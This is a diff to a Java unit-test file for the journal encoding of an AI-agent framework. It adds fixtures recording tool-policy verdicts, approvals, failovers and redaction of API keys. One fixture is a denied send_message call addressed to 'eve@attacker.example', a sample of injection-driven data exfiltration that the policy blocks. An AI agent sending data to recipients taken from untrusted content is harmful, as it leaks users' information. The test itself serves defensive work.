@@ -15,6 +15,7 @@ import dev.mainstay.model.TextBlock;
 import dev.mainstay.model.ThinkingBlock;
 import dev.mainstay.model.ToolUseBlock;
 import dev.mainstay.model.Usage;
+import dev.mainstay.policy.Verdict;
 import dev.mainstay.run.RunLimits;
 import dev.mainstay.run.RunRequest;
 import dev.mainstay.run.RunStopReason;
@@ -32,8 +33,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 import org.junit.jupiter.api.Test;
 
 /**
- * The journal's encoding. Each fixture under {@code journal/v1/} is frozen: it is what version 1 wrote, and every
- * later Mainstay must read it to the same entry. A new version adds a directory; it never edits an old one.
+ * The journal's encoding. Each fixture under {@code journal/v1/} and {@code journal/v2/} is frozen: it is what that
+ * version wrote, and every later Mainstay must read it to the same entry. A new version adds a directory; it never edits an old one.
  */
 class JournalCodecTest {
     private static final Instant AT = Instant.parse("2026-12-06T10:15:30.250Z");
@@ -73,12 +74,26 @@ class JournalCodecTest {
                     Duration.ofMillis(12), Optional.empty());
             case "run_closed" -> new RunClosed(RunStopReason.BUDGET_EXCEEDED,
                     Optional.of(new StepError("budget_exceeded", "the tenant's daily budget is spent")), AT);
+            case "plan_fixed" -> new PlanFixed(java.util.Map.of("save_note", 1, "send_message", 2),
+                    "K3J9Q2ZP7W4MHT8X", AT);
+            case "policy_decision_allowed" -> new PolicyDecision(2, "toolu_2", "save_note", INPUT,
+                    new Verdict.Allow("planned", "the user's task asked for save_note (1 of 1)"), AT);
+            case "policy_decision_needs_approval" -> new PolicyDecision(2, "toolu_3", "send_message",
+                    Json.parseObject("{\"to\":\"bob@example.org\",\"body\":\"hi\"}"),
+                    new Verdict.NeedsApproval("unplanned_side_effect", "the user's task did not ask for send_message,"
+                            + " and untrusted content is in the run's context"), AT);
+            case "policy_decision_denied" -> new PolicyDecision(2, "toolu_4", "send_message",
+                    Json.parseObject("{\"to\":\"eve@attacker.example\",\"body\":\"notes\"}"),
+                    new Verdict.Deny("controlled_argument", "argument 'to' of send_message carries a value that"
+                            + " appears only in untrusted content", true), AT);
+            case "approval_decided" -> new ApprovalDecided("toolu_3", false, "ada", "I never asked for that", AT);
             default -> throw new IllegalArgumentException(name);
         };
     }
 
     static final String[] CURRENT = {"run_opened", "run_opened_in_conversation", "model_call",
-            "model_call_failed_unpriced", "tool_intent", "tool_call", "run_closed"};
+            "model_call_failed_unpriced", "tool_intent", "tool_call", "run_closed", "plan_fixed",
+            "policy_decision_allowed", "policy_decision_needs_approval", "policy_decision_denied", "approval_decided"};
 
     @ParameterizedTest
     @ValueSource(strings = {"run_opened", "model_call", "model_call_failed_unpriced", "tool_intent", "tool_call",
@@ -90,6 +105,14 @@ class JournalCodecTest {
     @ParameterizedTest
     @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
             "tool_intent", "tool_call", "run_closed"})
+    void everyVersionTwoFixtureStillReadsToTheSameEntry(String name) throws IOException {
+        assertThat(JournalCodec.decode(fixture("v2/" + name + ".json"))).isEqualTo(expected(name));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
+            "tool_intent", "tool_call", "run_closed", "plan_fixed", "policy_decision_allowed",
+            "policy_decision_needs_approval", "policy_decision_denied", "approval_decided"})
     void everyCurrentVersionFixtureReadsToTheSameEntryAndIsWrittenTheSameWay(String name) throws IOException {
         var fixture = fixture("v" + JournalCodec.VERSION + "/" + name + ".json");
 
@@ -97,6 +120,22 @@ class JournalCodecTest {
         var exact = Json.mapper().reader()
                 .with(com.fasterxml.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);
         assertThat(exact.readTree(JournalCodec.encode(expected(name)))).isEqualTo(exact.readTree(fixture));
+    }
+
+    @Test
+    void aFailedStepKeepsItsBilledUsageAndWhyEachEndpointWasLeft() {
+        var step = new ModelStep(3, "claude-haiku-4-5", 2, Optional.empty(), new Usage(900, 40, 0, 0),
+                Cost.usd(new BigDecimal("0.00110000")),
+                List.of(new Failover("anthropic:claude-sonnet-4-5", "claude-sonnet-4-5", "rate_limit_error",
+                                "HTTP 429 rate_limit_error: slow down", "rate_limited"),
+                        new Failover("anthropic:claude-haiku-4-5", "claude-haiku-4-5", "overloaded_error",
+                                "stream error event overloaded_error", "content_delivered")),
+                AT, Duration.ofMillis(300), Optional.of(new StepError("overloaded_error", "Overloaded")));
+
+        var json = JournalCodec.toJson(step);
+
+        assertThat(json.path("failovers").get(0).path("reason").asText()).isEqualTo("rate_limited");
+        assertThat(JournalCodec.fromJson(json)).isEqualTo(step);
     }
 
     @Test
@@ -114,6 +153,21 @@ class JournalCodecTest {
 
         assertThatThrownBy(() -> JournalCodec.decode(newer)).isInstanceOf(IllegalArgumentException.class)
                 .hasMessageContaining("newer").hasMessageContaining("upgrade");
+    }
+
+    @Test
+    void aStepErrorNeverKeepsASecret() {
+        var error = new StepError("authentication_error", "invalid x-api-key sk-ant-api03-abcdefghijklmnop1234");
+
+        assertThat(error.message()).doesNotContain("sk-ant-").contains("[REDACTED:anthropic_key]");
+    }
+
+    @Test
+    void aVersionTwoReaderWouldBeToldToUpgradeForTheSecurityEntries() {
+        var v3 = JournalCodec.toJson(expected("approval_decided"));
+
+        assertThat(v3.path("v").asInt()).isEqualTo(3);
+        assertThat(JournalCodec.decode(v3.toString())).isEqualTo(expected("approval_decided"));
     }
 
     @Test
